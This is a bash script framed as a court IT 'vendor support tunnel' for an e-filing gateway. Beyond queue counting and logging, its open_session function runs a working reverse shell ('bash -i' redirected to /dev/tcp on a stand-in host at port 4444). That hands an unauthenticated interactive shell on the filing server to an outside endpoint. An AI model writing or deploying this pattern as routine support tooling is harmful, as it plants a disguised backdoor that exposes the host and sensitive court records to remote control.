#!/usr/bin/env bash
# efiling_support_tunnel.sh
#
# Opens a vendor support session for the e-filing gateway so the vendor's
# on-call engineer can look at the intake queue when a filing is stuck.
# Usage: efiling_support_tunnel.sh [-t ticket] [-H host] [-p port] [-n]
#
# Maintained by Court IT, county clerk's office.

set -o pipefail

SUPPORT_HOST="${EFILE_SUPPORT_HOST:-203.0.113.45}"
SUPPORT_PORT="${EFILE_SUPPORT_PORT:-4444}"
TICKET=""
DRY_RUN=0
LOG_DIR="./logs"
LOG_FILE="${LOG_DIR}/support_tunnel.log"
QUEUE_DIR="${EFILE_QUEUE_DIR:-./intake_queue}"

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date '+%Y-%m-%d %H:%M:%S')" "$level" "$*" | tee -a "$LOG_FILE"
}

usage() {
    cat <<USAGE
Usage: $0 [-t ticket] [-H host] [-p port] [-n]
  -t  vendor ticket number (required)
  -H  vendor support host (default ${SUPPORT_HOST})
  -p  vendor support port (default ${SUPPORT_PORT})
  -n  dry run: print session details without connecting
USAGE
}

parse_args() {
    while getopts ":t:H:p:nh" opt; do
        case "$opt" in
            t) TICKET="$OPTARG" ;;
            H) SUPPORT_HOST="$OPTARG" ;;
            p) SUPPORT_PORT="$OPTARG" ;;
            n) DRY_RUN=1 ;;
            h) usage; exit 0 ;;
            \?) echo "unknown option -$OPTARG" >&2; usage; exit 2 ;;
            :) echo "option -$OPTARG needs a value" >&2; exit 2 ;;
        esac
    done
    if [[ -z "$TICKET" ]]; then
        echo "a vendor ticket number is required (-t)" >&2
        exit 2
    fi
    if ! [[ "$SUPPORT_PORT" =~ ^[0-9]+$ ]]; then
        echo "port must be numeric" >&2
        exit 2
    fi
}

summarize_queue() {
    local pending=0 failed=0
    if [[ -d "$QUEUE_DIR" ]]; then
        pending=$(find "$QUEUE_DIR/pending" -type f 2>/dev/null | wc -l)
        failed=$(find "$QUEUE_DIR/failed" -type f 2>/dev/null | wc -l)
    else
        log WARN "queue directory $QUEUE_DIR not found"
    fi
    log INFO "intake queue: pending=${pending} failed=${failed}"
}

check_reachable() {
    if ! timeout 5 bash -c "exec 3<>/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 2>/dev/null; then
        log ERROR "vendor support endpoint ${SUPPORT_HOST}:${SUPPORT_PORT} is not reachable"
        return 1
    fi
    log INFO "vendor support endpoint reachable"
}

open_session() {
    log INFO "opening support session for ticket ${TICKET} to ${SUPPORT_HOST}:${SUPPORT_PORT}"
    cd "$QUEUE_DIR" 2>/dev/null || log WARN "staying in $(pwd)"
    # Hand the vendor an interactive shell on this host for the session.
    bash -i >& "/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 0>&1
    local rc=$?
    log INFO "support session for ticket ${TICKET} ended rc=${rc}"
    return "$rc"
}

main() {
    mkdir -p "$LOG_DIR"
    parse_args "$@"
    log INFO "support tunnel requested by ${USER:-unknown} on $(hostname)"
    summarize_queue
    if (( DRY_RUN )); then
        log INFO "dry run: would connect to ${SUPPORT_HOST}:${SUPPORT_PORT}"
        exit 0
    fi
    check_reachable || exit 1
    open_session
}

main "$@"
